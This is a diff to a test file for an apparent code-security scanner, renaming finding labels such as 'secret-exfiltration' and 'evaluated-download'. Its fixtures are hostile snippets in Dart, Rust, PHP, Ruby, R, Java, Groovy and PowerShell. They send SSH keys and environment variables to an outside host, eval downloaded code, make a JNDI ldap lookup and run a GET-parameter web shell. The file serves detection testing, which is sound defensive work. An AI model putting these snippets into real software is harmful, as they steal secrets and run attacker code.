@@ -53,39 +53,39 @@ test.each([
     "void main() async {\n  var key = File('/home/a/.ssh/id_rsa').readAsStringSync();\n  await http.post(Uri.parse('https://in.loghub.biz/u'), body: key);\n}",
   ],
 ])("finds that a program sends a key by %s", async (_, path, code) => {
-  expect(await worst(path, code)).toBe("block secret_exfiltration");
+  expect(await worst(path, code)).toBe("block secret-exfiltration");
 });
 
 test.each([
   [
     "a.rs",
     'fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let client = reqwest::Client::new();\n    client.post("https://in.loghub.biz/u").json(&all).send();\n}',
-    "block data_exfiltration",
+    "block data-exfiltration",
   ],
-  ["a.php", '<?php\ninclude "https://in.loghub.biz/x.txt";', "block evaluated_download"],
-  ["a.php", '<?php\ncall_user_func("system", $_GET["c"]);', "block remote_control"],
+  ["a.php", '<?php\ninclude "https://in.loghub.biz/x.txt";', "block evaluated-download"],
+  ["a.php", '<?php\ncall_user_func("system", $_GET["c"]);', "block remote-command-execution"],
   [
     "a.rb",
     'require "open-uri"\nKernel.send(:eval, URI.open("https://in.loghub.biz/x").read)',
-    "block evaluated_download",
+    "block evaluated-download",
   ],
   [
     "a.rb",
     'require "open-uri"\nFile.write("/tmp/x.rb", URI.open("https://in.loghub.biz/x").read)\nload "/tmp/x.rb"',
-    "block evaluated_download",
+    "block evaluated-download",
   ],
-  ["a.r", 'source("https://in.loghub.biz/x.R")', "block evaluated_download"],
+  ["a.r", 'source("https://in.loghub.biz/x.R")', "block evaluated-download"],
   [
     "A.java",
     'class A { void go() {\n  new URLClassLoader(new URL[]{new URL("https://in.loghub.biz/x.jar")}).loadClass("X");\n}}',
-    "block evaluated_download",
+    "block evaluated-download",
   ],
   [
     "A.java",
     'class A { void go() {\n  new InitialContext().lookup("ldap://45.13.2.9:1389/x");\n}}',
-    "block evaluated_download",
+    "block evaluated-download",
   ],
-  ["a.groovy", 'new GroovyShell().evaluate(new URL("https://in.loghub.biz/x").text)', "block evaluated_download"],
+  ["a.groovy", 'new GroovyShell().evaluate(new URL("https://in.loghub.biz/x").text)', "block evaluated-download"],
   [
     "a.ps1",
     `${POWERSHELL}$c = [System.Net.Http.HttpClient]::new()\n$c.PostAsync("https://in.loghub.biz/u", [System.Net.Http.StringContent]::new($k)).Wait()`,
@@ -99,7 +99,7 @@ test.each([
   [
     "a.ps1",
     '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("aQBlAHgA"))\nInvoke-Expression $c',
-    "block decoded_execution",
+    "block decoded-execution",
   ],
 ])("judges what %s does in %j", async (path, code, finding) => {
   expect(await worst(path, code)).toBe(finding);
